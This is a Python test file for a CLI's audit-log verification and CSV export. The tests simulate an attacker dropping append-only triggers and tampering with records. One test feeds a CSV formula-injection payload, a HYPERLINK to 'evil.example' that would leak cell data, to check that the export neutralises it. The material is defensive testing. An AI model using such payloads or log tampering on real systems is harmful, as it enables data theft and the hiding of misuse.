"""`locker audit verify` and `locker audit export`."""

from __future__ import annotations

import csv
import io
import itertools
import json
from pathlib import Path

import pytest

from locker.services.audit_log import CSV_COLUMNS
from tests.cli.conftest import DEMO_PHONES, DemoOutput, LockerCli, assert_clean_failure


def unlock_the_log(locker: LockerCli) -> None:
    """What an attacker with shell access does first: drop the append-only triggers."""
    locker.sql("DROP TRIGGER audit_log_no_update")
    locker.sql("DROP TRIGGER audit_log_no_delete")


def record_count(locker: LockerCli) -> int:
    [[count]] = locker.query("SELECT count(*) FROM audit_log")
    assert isinstance(count, int)
    return count


def test_audit_verify_passes_an_intact_log(ready: LockerCli, demo: DemoOutput):
    result = ready.ok("audit", "verify")
    assert result.stdout.strip() == f"audit log intact: {record_count(ready)} record(s)"


def test_the_append_only_triggers_stop_a_plain_update(ready: LockerCli, demo: DemoOutput):
    import sqlite3

    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        ready.sql("UPDATE audit_log SET actor = 'nobody' WHERE seq = 1")


@pytest.mark.parametrize(
    ("tamper", "broken_at", "reason"),
    [
        (
            'UPDATE audit_log SET details = \'{"name": "forged"}\' WHERE seq = 1',
            "1",
            "record 1 was altered",
        ),
        ("UPDATE audit_log SET actor = 'nobody' WHERE seq = 5", "5", "record 5 was altered"),
        ("DELETE FROM audit_log WHERE seq = 4", "5", "record 5 stands where record 4 should"),
        (
            "DELETE FROM audit_log WHERE seq = (SELECT max(seq) FROM audit_log)",
            "{last}",
            "the log ends at record {before_last} but its head is record {last}",
        ),
    ],
    ids=["update-details", "update-actor", "delete-middle", "delete-last"],
)
def test_audit_verify_exits_1_naming_the_first_tampered_record(
    ready: LockerCli, demo: DemoOutput, tamper: str, broken_at: str, reason: str
):
    last = record_count(ready)
    names = {"last": last, "before_last": last - 1}
    unlock_the_log(ready)
    ready.sql(tamper)

    result = ready.run("audit", "verify")

    assert_clean_failure(
        result, f"audit log BROKEN at record {broken_at.format(**names)}", reason.format(**names)
    )
    assert result.exit_code == 1
    assert "intact" not in result.output


def test_audit_export_writes_csv_with_a_header_and_one_row_a_record(
    ready: LockerCli, demo: DemoOutput
):
    result = ready.ok("audit", "export")

    header, *rows = list(csv.reader(io.StringIO(result.stdout)))
    assert tuple(header) == CSV_COLUMNS
    assert [int(row[0]) for row in rows] == list(range(1, record_count(ready) + 1))
    as_dicts = [dict(zip(header, row, strict=True)) for row in rows]
    assert as_dicts[0]["action"] == "locker.initialised"
    assert json.loads(as_dicts[0]["details"]) == {"name": "CLI test locker"}
    assert all(d["prev_hash"] == prev["hash"] for prev, d in itertools.pairwise(as_dicts))
    assert not [phone for phone in DEMO_PHONES if phone in result.stdout]


def test_audit_export_output_writes_the_same_csv_to_a_file(
    ready: LockerCli, demo: DemoOutput, tmp_path: Path
):
    target = tmp_path / "audit.csv"
    on_stdout = ready.ok("audit", "export").stdout

    result = ready.ok("audit", "export", "--csv", "--output", str(target))

    assert result.stdout == ""
    assert f"{record_count(ready)} record(s) written to {target}" in result.stderr
    assert target.read_text(encoding="utf-8") == on_stdout


def test_audit_export_into_a_missing_directory_fails_cleanly(
    ready: LockerCli, demo: DemoOutput, tmp_path: Path
):
    result = ready.run("audit", "export", "--output", str(tmp_path / "no-such-dir" / "a.csv"))
    assert_clean_failure(result, "no-such-dir")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_audit_export_shows_typed_formulas_as_text_in_a_spreadsheet(ready: LockerCli, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    with ready.context() as ctx:
        ctx.store.append_audit(
            f"{start}admin", "door.forced", formula, {"reason": formula}, ctx.clock.now()
        )
    result = ready.ok("audit", "export")
    header, *rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    last = dict(zip(header, rows[-1], strict=True))
    assert last["subject"] == "'" + formula
    assert last["actor"] == f"'{start}admin"
    assert json.loads(last["details"]) == {"reason": formula}  # inside JSON it cannot run
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
